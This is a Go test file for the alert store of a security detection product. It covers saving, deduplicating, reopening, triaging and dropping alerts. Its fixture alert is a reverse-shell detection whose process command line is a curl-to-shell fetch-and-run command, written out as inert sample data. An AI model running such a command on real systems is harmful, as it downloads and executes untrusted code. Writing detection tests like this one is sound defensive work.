package storetest

import (
	"fmt"
	"testing"
	"time"

	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
	"github.com/holdfast-security/holdfast/store"
)

// alert returns an alert with everything in it.
func alert(id string) finding.Alert {
	shell := &event.Process{PID: 7, Name: "bash", Executable: &event.File{Path: "/usr/bin/bash"}, CommandLine: "bash -c 'curl x | sh'"}
	shell.Parent = &event.Process{PID: 1, Name: "systemd"}
	return finding.Alert{
		ID: id, Type: "VM_ReverseShell", Title: "Reverse shell", Severity: finding.High, Host: "h1",
		Time: start, Raised: start.Add(time.Millisecond), Count: 1, LastTime: start,
		Story: "bash of root connected to 192.0.2.1", Meaning: "meaning", Steps: []string{"kill it", "look around"},
		Tactics: []finding.Tactic{"execution", "command-and-control"}, Methods: []finding.Technique{"T1059.004"},
		Rule:     finding.Rule{ID: "rule-1", Title: "Shell", Author: "us", Path: "rules/linux/x.yml"},
		Matches:  []finding.Match{{Field: "Image", Value: "/usr/bin/bash", Condition: `ends with "/bash"`, Selection: "sel"}},
		Process:  shell,
		Evidence: []event.Event{{Time: start, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Host: "h1", Serial: 1 << 62, Process: shell, Message: "a\x01b"}},
	}
}

// save stores alerts and returns the ids that were new.
func save(t *testing.T, s store.State, received time.Time, alerts ...finding.Alert) []string {
	t.Helper()
	added, err := s.SaveAlerts(t.Context(), alerts, received, store.Position{})
	ok(t, err)
	return added
}

func read(t *testing.T, s store.State, id string) finding.Case {
	t.Helper()
	c, err := s.Alert(t.Context(), id)
	ok(t, err)
	return c
}

func alertComesBack(t *testing.T, s store.State) {
	ok(t, s.AddHost(t.Context(), host("h1", "web-1")))
	a := alert("a1")
	received := start.Add(time.Second)
	same(t, save(t, s, received, a), []string{"a1"})
	want := finding.Case{Alert: a, Triage: finding.Triage{Status: finding.Open, Version: 1}, HostName: "web-1", Received: received}
	same(t, read(t, s, "a1"), want)
	_, err := s.Alert(t.Context(), "none")
	wantError(t, err, store.ErrNotFound)

	l, err := s.Alerts(t.Context(), store.AlertFilter{}, "", store.Page{})
	ok(t, err)
	same(t, l, store.List[finding.Summary]{Items: []finding.Summary{{
		ID: "a1", Type: a.Type, Title: a.Title, Severity: a.Severity, Host: "h1", HostName: "web-1", Time: a.Time, LastTime: a.LastTime,
		Count: 1, Story: a.Story, Tactics: a.Tactics, RuleID: "rule-1", Triage: want.Triage,
	}}})
}

func alertStatus(t *testing.T, s store.State) {
	save(t, s, start, alert("a1"), alert("a2"))
	_, err := s.ChangeAlert(t.Context(), "a2", store.AnyVersion, store.AlertChange{Status: pointer(finding.Resolved), By: "anna", Time: start})
	ok(t, err)
	got, err := s.AlertStatus(t.Context(), []string{"a1", "none", "a2"})
	ok(t, err)
	same(t, got, map[string]finding.Status{"a1": finding.Open, "a2": finding.Resolved})
	got, err = s.AlertStatus(t.Context(), nil)
	ok(t, err)
	same(t, got, map[string]finding.Status{})
}

func alertRepeats(t *testing.T, s store.State) {
	a := alert("a1")
	later := alert("a1")
	later.Count, later.LastTime, later.Title = 5, start.Add(time.Minute), "not taken"
	later.Evidence, later.Matches = append(later.Evidence, later.Evidence[0]), nil
	// New and repeated in one call, and beside another.
	same(t, save(t, s, start, a, later, alert("a2"), a), []string{"a1", "a2"})
	want := a
	want.Count, want.LastTime, want.Evidence, want.Matches = 5, later.LastTime, later.Evidence, nil
	same(t, read(t, s, "a1").Alert, want)

	// Nothing moves back.
	same(t, save(t, s, start.Add(time.Hour), a), []string(nil))
	same(t, read(t, s, "a1").Alert, want)

	// Count and time move by themselves; triage and version stay.
	a.Count, a.LastTime = 9, start
	a.Evidence = nil
	same(t, save(t, s, start, a), []string(nil))
	want.Count = 9
	got := read(t, s, "a1")
	same(t, got.Alert, want)
	same(t, got.Received, start)
	same(t, got.Version, int64(1))

	l, err := s.Alerts(t.Context(), store.AlertFilter{}, store.MostFirst, store.Page{})
	ok(t, err)
	if len(l.Items) != 2 || l.Items[0].ID != "a1" || l.Items[0].Count != 9 || !l.Items[0].LastTime.Equal(later.LastTime) {
		t.Errorf("list is %+v", l.Items)
	}
}

func alertReopens(t *testing.T, s store.State) {
	ctx := t.Context()
	repeat := func(id string, count uint32, at time.Time) finding.Alert {
		a := alert(id)
		a.Count, a.LastTime = count, at
		return a
	}
	closed := start.Add(time.Hour)
	for _, status := range []finding.Status{finding.Acknowledged, finding.Resolved, finding.Dismissed} {
		id := string(status)
		save(t, s, start, alert(id))
		_, err := s.ChangeAlert(ctx, id, 1, store.AlertChange{Status: pointer(status), Assignee: pointer("anna"), By: "anna", Time: closed})
		ok(t, err)
		save(t, s, closed, repeat(id, 2, closed.Add(24*time.Hour)))
		if c := read(t, s, id); c.Status != status || c.Version != 2 || c.Count != 2 {
			t.Errorf("a day later: %+v", c.Triage)
		}
		// The same again, received much later, is no repeat.
		save(t, s, closed.Add(99*time.Hour), repeat(id, 2, closed.Add(24*time.Hour)))
		if c := read(t, s, id); c.Status != status {
			t.Errorf("repeated delivery: %+v", c.Triage)
		}
		received := closed.Add(25 * time.Hour)
		save(t, s, received, repeat(id, 3, closed.Add(24*time.Hour+1)))
		c := read(t, s, id)
		if status == finding.Acknowledged {
			same(t, c.Triage, finding.Triage{Status: status, Assignee: "anna", Changed: closed, By: "anna", Version: 2})
			continue
		}
		same(t, c.Triage, finding.Triage{Status: finding.Open, Assignee: "anna", Changed: received, By: "server", Version: 3})
		comments, err := s.Comments(ctx, id)
		ok(t, err)
		if len(comments) != 2 || comments[1].By != "server" || comments[1].Event == "" {
			t.Errorf("comments are %+v", comments)
		}
		l, err := s.Alerts(ctx, store.AlertFilter{Status: []finding.Status{status}}, "", store.Page{})
		ok(t, err)
		if len(l.Items) != 0 {
			t.Errorf("still listed as %s", status)
		}
	}
}

func alertPositions(t *testing.T, s store.State) {
	ctx := t.Context()
	position := func(partition string) uint64 {
		p, err := s.DetectionPosition(ctx, partition)
		ok(t, err)
		return p
	}
	same(t, position("0"), uint64(0))
	for _, step := range []struct{ saved, want uint64 }{{7, 7}, {3, 7}, {8, 8}} {
		added, err := s.SaveAlerts(ctx, nil, start, store.Position{Partition: "0", Sequence: step.saved})
		ok(t, err)
		same(t, added, []string(nil))
		same(t, position("0"), step.want)
	}
	same(t, position("1"), uint64(0))
	stored, err := s.StorePosition(ctx, "0")
	ok(t, err)
	same(t, stored, uint64(0))
}

func alertChanges(t *testing.T, s store.State) {
	ctx := t.Context()
	save(t, s, start, alert("a1"), alert("a2"), alert("a3"))
	now := start.Add(time.Hour)
	change := store.AlertChange{Status: pointer(finding.Acknowledged), Assignee: pointer("anna"), Comment: "mine", By: "anna", Time: now}
	_, err := s.ChangeAlert(ctx, "none", store.AnyVersion, change)
	wantError(t, err, store.ErrNotFound)
	_, err = s.ChangeAlert(ctx, "a1", 2, change)
	wantError(t, err, store.ErrConflict)
	got, err := s.ChangeAlert(ctx, "a1", 1, change)
	ok(t, err)
	want := finding.Triage{Status: finding.Acknowledged, Assignee: "anna", Changed: now, By: "anna", Version: 2}
	same(t, got.Triage, want)
	same(t, got.Alert, alert("a1"))
	same(t, read(t, s, "a1"), got)

	// Neither a comment nor the same again is a new version.
	got, err = s.ChangeAlert(ctx, "a1", store.AnyVersion, store.AlertChange{Status: pointer(finding.Acknowledged), By: "bert", Time: now})
	ok(t, err)
	same(t, got.Triage, want)
	got, err = s.ChangeAlert(ctx, "a1", 2, store.AlertChange{Comment: "hm", By: "bert", Time: now.Add(1)})
	ok(t, err)
	same(t, got.Triage, want)
	_, err = s.ChangeAlert(ctx, "a1", 2, store.AlertChange{Assignee: pointer(""), By: "bert", Time: now.Add(2)})
	ok(t, err)

	comments, err := s.Comments(ctx, "a1")
	ok(t, err)
	for i := range comments {
		if comments[i].ID == 0 || i > 0 && comments[i].ID <= comments[i-1].ID {
			t.Errorf("comment %d has the id %d", i, comments[i].ID)
		}
		comments[i].ID = 0
	}
	same(t, comments, []finding.Comment{
		{Alert: "a1", Time: now, By: "anna", Text: "mine", Event: "status changed from open to acknowledged; assigned to anna"},
		{Alert: "a1", Time: now.Add(1), By: "bert", Text: "hm"},
		{Alert: "a1", Time: now.Add(2), By: "bert", Event: "no longer assigned to anna"},
	})
	n, err := s.ChangeAlerts(ctx, []string{"a3", "a1", "none", "a3"}, store.AlertChange{Status: pointer(finding.Dismissed), By: "bert", Time: now})
	ok(t, err)
	same(t, n, 2)
	same(t, read(t, s, "a1").Version, int64(4))
	same(t, read(t, s, "a2").Status, finding.Open)
	same(t, read(t, s, "a3").Status, finding.Dismissed)
	same(t, read(t, s, "a3").Alert, alert("a3"))
	n, err = s.ChangeAlerts(ctx, nil, change)
	ok(t, err)
	same(t, n, 0)
}

func alertDrops(t *testing.T, s store.State) {
	ctx := t.Context()
	for i := range 10 {
		a := alert(fmt.Sprint("a", i))
		a.LastTime = start.Add(time.Duration(i) * time.Hour)
		save(t, s, start, a)
	}
	_, err := s.ChangeAlert(ctx, "a0", 1, store.AlertChange{Comment: "x", By: "anna", Time: start})
	ok(t, err)
	list := func() []string { return listed(t, s, store.AlertFilter{}, store.OldestFirst, 100) }
	same(t, len(list()), 10)
	before := start.Add(5 * time.Hour)
	for _, want := range []int{3, 2, 0} {
		n, err := s.DropAlerts(ctx, before, 3)
		ok(t, err)
		same(t, n, want)
	}
	same(t, list(), []string{"a5", "a6", "a7", "a8", "a9"})
	_, err = s.Alert(ctx, "a0")
	wantError(t, err, store.ErrNotFound)
	comments, err := s.Comments(ctx, "a0")
	ok(t, err)
	same(t, comments, []finding.Comment(nil))
	same(t, listed(t, s, store.AlertFilter{Text: "192.0.2"}, "", 100), []string{"a9", "a8", "a7", "a6", "a5"})

	// What was dropped may come again, and is new then.
	same(t, save(t, s, start, alert("a0")), []string{"a0"})
	same(t, list(), []string{"a0", "a5", "a6", "a7", "a8", "a9"})
	counts, err := s.CountAlerts(ctx, store.AlertFilter{}, 0)
	ok(t, err)
	same(t, counts.Total, int64(6))
}
